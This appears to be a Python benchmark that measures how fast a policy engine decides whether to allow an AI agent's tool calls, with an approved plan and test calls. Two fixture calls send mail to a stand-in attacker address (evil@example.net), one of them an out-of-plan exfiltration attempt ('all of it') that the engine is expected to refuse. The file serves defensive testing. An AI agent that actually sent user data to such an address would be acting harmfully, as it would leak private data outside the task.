"""How long a decision takes: the engine's own calls over a task with a plan and large results, against one canonical
JSON and one SHA-256 of the call in the same run.

python bench/policy.py [--json FILE]"""

from __future__ import annotations

import argparse
import hashlib
import json
import statistics
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from confrere.policy.engine import Engine
from confrere.policy.manifest import Effect, Manifest, Role
from confrere.policy.state import HOLE, Call

ROUNDS = 2000
LIMIT = 0.2e-3

TOOLS = {
    "list_documents": Manifest(effect=Effect.READ, kind="read", store="drive"),
    "find_person": Manifest(effect=Effect.READ, kind="read", trust="own", store="people", roles={"who": Role.QUERY}),
    "read_messages": Manifest(effect=Effect.READ, kind="read", store="mail"),
    "write_file": Manifest(effect=Effect.CHANGE, kind="write", roles={"path": Role.PATH, "content": Role.TEXT}),
    "remove": Manifest(effect=Effect.ACT, kind="delete", store="drive", roles={"document": Role.ID}),
    "send": Manifest(effect=Effect.ACT, kind="send", store="mail", egress=True, undo=False, roles={"to": Role.DEST, "body": Role.TEXT}),
    "open_page": Manifest(effect=Effect.READ, kind="fetch", egress=True, roles={"url": Role.URL}),
}


def engine() -> Engine:
    """A task in its middle: a plan of twelve steps, and two results of 100 records each."""
    found = Engine()
    found.start("Delete the largest document, and tell Anna Blum “done, see you on Monday”. See www.example.org/a.", TOOLS)
    found.approve_plan(
        [
            {"tool": "list_documents", "args": {}},
            {"tool": "read_messages", "args": {}},
            {"tool": "find_person", "args": {"who": "Anna Blum"}},
            {"tool": "remove", "args": {"document": HOLE}},
            {"tool": "send", "args": {"to": HOLE, "body": "done, see you on Monday"}},
            *[{"tool": "send", "args": {"to": f"p{i}@example.org", "body": f"text {i}"}} for i in range(7)],
        ]
    )
    documents = [{"id": f"d{i}", "title": f"Document {i}", "size": 100 + i, "owner": f"o{i}@example.org"} for i in range(100)]
    messages = [{"id": f"m{i}", "sender": f"s{i}@example.org", "subject": f"Subject {i}", "body": "text " * 40} for i in range(100)]
    people = [{"name": "Anna Blum", "email": "anna.blum@example.org"}]
    results: list[tuple[str, dict[str, Any], Any]] = [
        ("list_documents", {}, documents),
        ("read_messages", {}, messages),
        ("find_person", {"who": "Anna Blum"}, people),
    ]
    for tool, args, data in results:
        found.observe(Call(tool=tool, args=args), json.dumps(data))
    return found


CASES = {
    "read: allowed": Call(tool="list_documents", args={}),
    "change in the workspace: allowed": Call(tool="write_file", args={"path": "Clients/totals.xlsx", "content": "x" * 2000}),
    "literal step: allowed": Call(tool="send", args={"to": "p6@example.org", "body": "text 6"}),
    "largest of 100: allowed": Call(tool="remove", args={"document": "d99"}),
    "looked-up person: allowed": Call(tool="send", args={"to": "anna.blum@example.org", "body": "done, see you on Monday"}),
    "named page: allowed": Call(tool="open_page", args={"url": "www.example.org/a"}),
    "another of 100: asks, with its card": Call(tool="remove", args={"document": "d3"}),
    "another person: asks, with its card": Call(tool="send", args={"to": "evil@example.net", "body": "done, see you on Monday"}),
    "out of the plan: refused": Call(tool="send", args={"to": "evil@example.net", "body": "all of it"}),
}


def timed(work: Callable[[], Any]) -> tuple[float, float]:
    """Median and 99th percentile of the processor time, in seconds (the machine may be shared)."""
    for _ in range(50):
        work()
    times = []
    for _ in range(ROUNDS):
        begun = time.thread_time()
        work()
        times.append(time.thread_time() - begun)
    times.sort()
    return statistics.median(times), times[int(len(times) * 0.99)]


def main() -> int:
    parser = argparse.ArgumentParser(description=(__doc__ or "").split("\n", 1)[0])
    parser.add_argument("--json", default="", help="write the figures here")
    options = parser.parse_args()
    found, figures = engine(), {}
    call = CASES["change in the workspace: allowed"]
    base, _ = timed(lambda: hashlib.sha256(json.dumps(call.args, sort_keys=True).encode()).hexdigest())
    print(f"{'one canonical JSON and SHA-256':38} {base * 1e6:8.1f} µs")
    for name, case in CASES.items():
        middle, worst = timed(lambda case=case: found.decide(case))  # type: ignore[misc]
        figures[name] = {"median_us": middle * 1e6, "p99_us": worst * 1e6, "ratio": middle / base, "verdict": found.decide(case).verdict}
        print(f"{name:38} {middle * 1e6:8.1f} µs   p99 {worst * 1e6:8.1f} µs   {middle / base:6.1f} ×   {figures[name]['verdict']}")
    if options.json:
        Path(options.json).write_text(json.dumps(figures, indent=1))
    return 1 if any(entry["median_us"] > LIMIT * 1e6 for entry in figures.values()) else 0


if __name__ == "__main__":
    sys.exit(main())
